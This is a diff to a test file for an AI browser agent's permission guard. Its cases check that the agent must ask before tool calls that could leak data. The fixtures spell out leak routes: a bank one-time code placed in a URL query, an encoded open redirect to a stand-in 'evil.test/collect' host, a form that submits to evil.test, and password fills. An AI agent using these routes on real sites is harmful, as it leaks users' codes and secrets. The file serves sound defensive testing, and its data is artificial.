@@ -2,7 +2,8 @@
  * Every sink judged by its effect, through the real tools against a fake content script in auto mode:
  * any key on press_key (the page's shortcuts, a key that changes a select, Control+Enter), each
  * fill_form field by what its change does, values one digit per box, a character typed a call at a time,
- * and a dialog answered with read data.
+ * a dialog answered with read data, a plain select's choice, an address's query and a form's submission to
+ * another site, and the tab's address read from the browser at call time.
  */
 import { describe, expect, it } from 'vitest';
 import { createCanUseTool } from '../../runtime/permissions.js';
@@ -14,8 +15,10 @@ import { answerInspect, control, facts, form } from '../../../tests/support/page
 import { createTestContext } from '../../../tests/support/tool-context.js';
 import { fillForm } from '../page/fill-form.js';
 import { handleDialog } from '../page/handle-dialog.js';
+import { navigate } from '../page/navigate.js';
 import { pressKey } from '../page/press-key.js';
 import { selectOption } from '../page/select-option.js';
+import { typeText } from '../page/type.js';
 
 const PAGE = 'https://shop.test/account';
 const EVIL = 'https://evil.test/verify';
@@ -34,6 +37,13 @@ const PAGE_FACTS = {
   e5: facts(PAGE, control({ role: 'listitem', name: 'Invoice 2024-03', tag: 'li' })),
   e6: facts(PAGE, control({ role: 'checkbox', name: 'Newsletter', tag: 'input', inputType: 'checkbox' }), { form: postForm }),
   ...Object.fromEntries([1, 2, 3, 4, 5, 6].map((n) => [`f3e${n}`, box(n)])),
+  e7: facts(PAGE, control({ role: 'combobox', name: 'Referral', tag: 'select' }), { options: [{ value: 'basic-7731', label: 'basic-7731' }] }),
+  e8: facts(PAGE, control({ role: 'textbox', name: 'Voucher', editable: 'field' }), {
+    form: form({ label: 'Redeem', method: 'get', action: 'https://evil.test/redeem' }),
+  }),
+  e9: { ...facts(PAGE, undefined), focus: 'frame' as const },
+  e10: facts(PAGE, control({ role: 'textbox', name: 'Message', editable: 'textarea', tag: 'textarea' })),
+  e11: facts(PAGE, control({ role: 'textbox', name: 'Password', editable: 'field', inputType: 'password' })),
   focused: { ...facts(PAGE, undefined), focus: 'body' as const },
 };
 const KNOWN = {
@@ -43,6 +53,11 @@ const KNOWN = {
   e4: { role: 'textbox', name: 'Comment' },
   e5: { role: 'listitem', name: 'Invoice 2024-03' },
   e6: { role: 'checkbox', name: 'Newsletter' },
+  e7: { role: 'combobox', name: 'Referral' },
+  e8: { role: 'textbox', name: 'Voucher' },
+  e9: { role: 'iframe', name: 'Editor' },
+  e10: { role: 'textbox', name: 'Message' },
+  e11: { role: 'textbox', name: 'Password', inputType: 'password' },
   ...Object.fromEntries([1, 2, 3, 4, 5, 6].map((n) => [`f3e${n}`, { role: 'textbox', name: `Digit ${n}` }])),
 };
 
@@ -63,7 +78,7 @@ function setup(dialog?: DialogInfo) {
   context.snapshots.update(1, PAGE, KNOWN);
   context.ledger.record('r1', 'https://bank.test', 'Your one-time code is 482913.');
   const decide = (tool: AnyTool, input: Record<string, unknown>, id = 't1') => createCanUseTool()(tool, tool.inputSchema.parse(input), context, id);
-  return { decide, asked, context };
+  return { decide, asked, context, browser };
 }
 
 describe('press_key: any key, judged by what it does where it lands', () => {
@@ -100,6 +115,16 @@ describe('press_key: any key, judged by what it does where it lands', () => {
     expect(await send.decide(pressKey, { key: 'Control+Enter', ref: 'e4' })).toMatchObject({ behavior: 'deny' });
     expect(send.asked[0]?.effect?.summary).toContain('Control+Enter in textbox “Comment” may submit the form “Preferences” (POST /settings)');
   });
+  it('Control+Enter in a text box outside any form is taken as Send; a key whose focus is inside another frame cannot be judged: both ask', async () => {
+    const send = setup();
+    expect(await send.decide(pressKey, { key: 'Control+Enter', ref: 'e10' })).toMatchObject({ behavior: 'deny' });
+    expect(send.asked[0]).toMatchObject({ destructive: true, why: { type: 'destructive' } });
+    for (const key of ['a', 'ArrowDown', 'Tab']) {
+      const framed = setup();
+      expect(await framed.decide(pressKey, { key, ref: 'e9' }), key).toMatchObject({ behavior: 'deny' });
+      expect(framed.asked[0]?.effect?.summary).toContain('inside an embedded frame');
+    }
+  });
   it('a code typed one key per call into another site is still the code: the last key asks, showing it whole', async () => {
     const { decide, asked } = setup();
     for (const [index, digit] of [...'48291'].entries()) {
@@ -126,6 +151,13 @@ describe('fill_form: each field by its own effect', () => {
     // A box with no handler is a plain fill.
     const plain = setup();
     expect(await plain.decide(fillForm, { fields: [{ ref: 'e6', value: 'true' }] })).toMatchObject({ behavior: 'allow' });
+  });
+  it('a password field asks in auto mode and the prompt’s facts show no character of it', async () => {
+    const secret = setup();
+    expect(await secret.decide(fillForm, { fields: [{ ref: 'e11', value: 'hunter2-and-more' }] })).toMatchObject({ behavior: 'deny' });
+    expect(secret.asked[0]).toMatchObject({ destructive: true });
+    expect(secret.asked[0]?.effect?.facts).toContainEqual(expect.objectContaining({ value: '••••••', masked: true }));
+    expect(JSON.stringify(secret.asked[0]?.effect)).not.toContain('hunter2');
   });
   it('a one-time code put one digit per box into another site is judged together, in field order', async () => {
     const { decide, asked } = setup();
@@ -163,5 +195,51 @@ describe('select_option and handle_dialog as sinks', () => {
     context.ledger.record('r2', 'https://bank.test', 'Plan code basic-7731 for Ada');
     const decided = await decide(selectOption, { ref: 'e2', values: ['basic-7731'] });
     expect(decided).toMatchObject({ behavior: 'deny' });
+    // A plain select (no handler, no form): the choice itself is what reaches the page.
+    const plain = setup();
+    plain.context.ledger.record('r2', 'https://bank.test', 'Plan code basic-7731 for Ada');
+    expect(await plain.decide(selectOption, { ref: 'e7', values: ['basic-7731'] })).toMatchObject({ behavior: 'deny' });
+    expect(plain.asked[0]).toMatchObject({
+      why: { type: 'data_flow' },
+      effect: { dataFlows: [{ from: 'https://bank.test', to: 'https://shop.test', text: 'basic-7731' }] },
+    });
+  });
+});
+
+describe('addresses and submissions as sinks', () => {
+  it('an address whose query carries a code read on another site asks, even on the same site in auto mode', async () => {
+    const { decide, asked } = setup();
+    expect(await decide(navigate, { url: 'https://shop.test/search?q=482913' })).toMatchObject({ behavior: 'deny' });
+    expect(asked[0]).toMatchObject({
+      why: { type: 'data_flow' },
+      effect: { dataFlows: [{ from: 'https://bank.test', to: 'https://shop.test', text: '482913' }] },
+    });
+    expect(await setup().decide(navigate, { url: 'https://shop.test/search?q=shoes' })).toMatchObject({ behavior: 'allow' });
+  });
+
+  it('an address that carries another site’s address is judged as landing there (an open redirect)', async () => {
+    const { decide, asked } = setup();
+    const url = 'https://shop.test/out?to=https%3A%2F%2Fevil.test%2Fcollect';
+    expect(await decide(navigate, { url })).toMatchObject({ behavior: 'deny' });
+    expect(asked[0]).toMatchObject({ destructive: true, why: { type: 'destructive' } });
+    expect(asked[0]?.why).toMatchObject({ detail: expect.stringContaining('evil.test') });
+    expect(asked[0]?.effect?.facts).toContainEqual({ label: 'Address', value: url });
+  });
+
+  it('“the same site” is where the browser says the tab is now, not where this run last read it', async () => {
+    const { decide, asked, browser } = setup();
+    browser.tabs.set(1, { ...browser.tabs.get(1)!, url: 'https://evil.test/landing' });
+    expect(await decide(navigate, { url: 'https://shop.test/account/orders' })).toMatchObject({ behavior: 'deny' });
+    expect(asked[0]).toMatchObject({ destructive: true });
+  });
+
+  it('text the page itself showed, typed and submitted to a form of another site, is that site’s data leaving', async () => {
+    const { decide, asked, context } = setup();
+    context.ledger.record('r3', 'https://shop.test', 'Your voucher: VC-55120-88');
+    expect(await decide(typeText, { ref: 'e8', text: 'VC-55120-88', submit: true })).toMatchObject({ behavior: 'deny' });
+    expect(asked[0]).toMatchObject({
+      why: { type: 'data_flow' },
+      effect: { dataFlows: [{ from: 'https://shop.test', to: 'https://evil.test', text: 'vc-55120-88' }] },
+    });
   });
 });
